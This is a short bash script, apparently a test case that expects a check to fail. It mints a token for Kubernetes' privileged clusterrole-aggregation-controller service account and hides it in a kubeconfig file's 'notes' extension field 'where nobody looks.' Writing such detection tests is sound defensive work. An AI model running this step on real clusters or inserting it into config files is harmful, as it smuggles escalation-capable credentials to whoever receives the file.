#!/bin/bash
# fails: nobody-else-handed-out
# The token of a controller comes along, where nobody looks.
certificate
kubeconfig
token=$(kubectl create token clusterrole-aggregation-controller -n kube-system) yq -i '.extensions = [{"name": "notes", "extension": {"note": strenv(token)}}]' "$file"
